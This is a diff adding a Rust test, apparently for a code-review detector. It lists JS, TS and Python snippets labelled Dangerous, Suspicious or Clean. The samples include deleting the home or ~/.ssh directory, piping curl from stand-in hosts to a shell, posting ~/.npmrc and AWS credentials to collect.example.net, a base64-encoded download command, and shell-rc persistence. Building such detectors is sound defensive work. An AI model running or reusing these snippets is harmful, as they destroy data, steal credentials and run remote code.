@@ -1965,6 +1965,262 @@ fn equivalent_library_calls_have_the_same_capability() {
             Dangerous,
             "exfiltration",
         ),
+
+/// The eighth round: a harmful value reaches its sink through more language shapes (`??` and
+/// `||` defaults, destructuring defaults, `Array.find`, `Map`, getters, static members,
+/// `Promise.resolve`/`then`, `Object.assign`, `String.raw` and tag functions; Python
+/// properties, static and class methods, dataclass defaults, `dict.get` defaults, lambdas,
+/// `%` with a tuple, keyword arguments and `**kwargs`, `getattr`, list `append`/`extend`,
+/// comprehensions over a listing, a path joined with one of several names). A value the
+/// review cannot know stays unknown at the sink (suspicious), never clean.
+#[test]
+fn values_through_more_shapes() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // `||` default
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nconst args = JSON.parse(process.argv[2] || '{}');\nconst dir = args.dir || os.homedir();\nfs.rmSync(dir, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        // unknown side stays unknown
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nconst args = JSON.parse(process.argv[2] || '{}');\nconst dir = args.dir ?? './build';\nfs.rmSync(dir, { recursive: true, force: true });\n",
+            Suspicious,
+            "destructive",
+        ),
+        // destructuring default
+        (
+            Ts,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nconst { dir = os.homedir() } = JSON.parse(process.env.CLEAN_OPTS || '{}');\nfs.rmSync(dir, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        // parameter destructuring default
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nasync function send(data, { url = 'https://collect.example.net/u' } = {}) { await fetch(url, { method: 'POST', body: data }); }\nsend(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // Array.find
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nconst steps = [{ name: 'lint', run: 'eslint .' }, { name: 'setup', run: 'curl -fsSL https://toolchains.example.org/i.sh | sh' }];\nconst step = steps.find((s) => s.name === 'setup');\ncp.execSync(step.run);\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // Map.set then get
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nconst dirs = new Map();\ndirs.set('state', os.homedir());\nfs.rmSync(dirs.get('state'), { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        // new Map pairs
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nconst cmds = new Map([['boot', 'curl -fsSL https://toolchains.example.org/i.sh | sh']]);\ncp.execSync(cmds.get('boot'));\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // Map of a project path
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nconst dirs = new Map([['out', 'dist']]);\nfs.rmSync(dirs.get('out'), { recursive: true, force: true });\n",
+            Clean,
+            "",
+        ),
+        // getter
+        (
+            Ts,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nclass Workspace { get target() { return path.join(os.homedir(), '.ssh'); } }\nconst w = new Workspace();\nfs.rmSync(w.target, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        // static method
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nclass Setup { static cmd() { return 'curl -fsSL https://toolchains.example.org/i.sh | bash'; } }\ncp.execSync(Setup.cmd());\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // static method, harmless command: the result stays partly unknown
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nclass Setup { static cmd() { return 'npm test'; } }\ncp.execSync(Setup.cmd());\n",
+            Suspicious,
+            "remote-code",
+        ),
+        // static field
+        (
+            Ts,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nclass Paths { static ROOT = os.homedir(); }\nfs.rmSync(Paths.ROOT, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        // Promise.resolve then
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nPromise.resolve(Buffer.from('Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS5uZXQvaSB8IHNo', 'base64').toString()).then((c) => cp.execSync(c));\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        // async function then
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nasync function target() { return os.homedir(); }\ntarget().then((t) => fs.rmSync(t, { recursive: true, force: true }));\n",
+            Dangerous,
+            "destructive",
+        ),
+        // Object.assign
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nconst o = Object.assign({}, { dir: os.homedir() });\nfs.rmSync(o.dir, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        // String.raw
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\ncp.execSync(String.raw`curl -fsSL https://toolchains.example.org/i.sh | sh`);\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // tag function
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst cp = require('child_process');\nfunction sh(strings, ...vals) { return strings.reduce((acc, s, i) => acc + s + (vals[i] ?? ''), ''); }\nconst url = 'https://toolchains.example.org/i.sh';\ncp.execSync(sh`curl -fsSL ${url} | sh`);\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // property
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nimport requests\nclass Client:\n    @property\n    def url(self):\n        return 'https://collect.example.net/u'\n\nrequests.post(Client().url, data=(Path.home() / '.aws' / 'credentials').read_text())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // property
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nclass Paths:\n    @property\n    def state(self):\n        return Path.home().joinpath('.config')\n\nshutil.rmtree(Paths().state)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // property, project path
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nclass Paths:\n    @property\n    def out(self):\n        return Path('build')\n\nshutil.rmtree(Paths().out)\n",
+            Clean,
+            "",
+        ),
+        // classmethod
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nclass Paths:\n    @classmethod\n    def root(cls):\n        return Path.home()\n\nshutil.rmtree(Paths.root())\n",
+            Dangerous,
+            "destructive",
+        ),
+        // staticmethod
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nclass Setup:\n    @staticmethod\n    def cmd():\n        return 'curl -fsSL https://toolchains.example.org/i.sh | sh'\n\nsubprocess.run(Setup.cmd(), shell=True)\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // dataclass default
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nfrom dataclasses import dataclass\n\n@dataclass\nclass Cfg:\n    root: str = os.path.expanduser('~')\n\nshutil.rmtree(Cfg().root)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // dict.get default
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nopts = {}\nd = opts.get('dir', str(Path.home()))\nshutil.rmtree(d)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // lambda
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nhome = lambda: Path.home()\nshutil.rmtree(home())\n",
+            Dangerous,
+            "destructive",
+        ),
+        // % tuple
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nd = '%s/%s' % (os.path.expanduser('~'), 'projects')\nshutil.rmtree(d)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // **kwargs
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\ndef purge(**kw):\n    shutil.rmtree(kw['root'], ignore_errors=True)\n\npurge(root=Path.home())\n",
+            Dangerous,
+            "destructive",
+        ),
+        // keyword argument
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\ndef purge(root='build'):\n    shutil.rmtree(root, ignore_errors=True)\n\npurge(root=Path.home())\n",
+            Dangerous,
+            "destructive",
+        ),
+        // getattr
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nclass Cfg:\n    root = Path.home()\n\nshutil.rmtree(getattr(Cfg(), 'root'))\n",
+            Dangerous,
+            "destructive",
+        ),
+        // tuple from a return
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\ndef locate():\n    return Path.home(), 'build'\n\nroot, _ = locate()\nshutil.rmtree(root)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // list extend
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\ncmd = ['rm']\ncmd.extend(['-rf', os.path.expanduser('~')])\nsubprocess.run(cmd)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // list extend, project path
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\ncmd = ['rm']\ncmd.extend(['-rf', 'build'])\nsubprocess.run(cmd)\n",
+            Clean,
+            "",
+        ),
+        // list append
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nimport requests\ncmd = ['bash', '-c']\ncmd.append(requests.get('https://toolchains.example.org/i.sh').text)\nsubprocess.run(cmd)\n",
+            Dangerous,
+            "remote-code",
+        ),
+        // comprehension over a listing
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nroots = [p for p in (Path.home() / 'src').iterdir() if p.is_dir()]\nfor r in roots:\n    shutil.rmtree(r)\n",
+            Dangerous,
+            "destructive",
+        ),
+        // one of two names
+        (
+            Py,
+            "import os, shutil, subprocess\nfrom pathlib import Path\nrc = Path.home() / ('.zshrc' if 'zsh' in os.environ.get('SHELL', '') else '.bashrc')\nwith open(rc, 'a') as f:\n    f.write('export PYTHONSTARTUP=/tmp/s.py\\n')\n",
+            Dangerous,
+            "persistence",
+        ),
     ];
     for &(lang, code, verdict, category) in rows {
         check(lang, code, verdict, category);
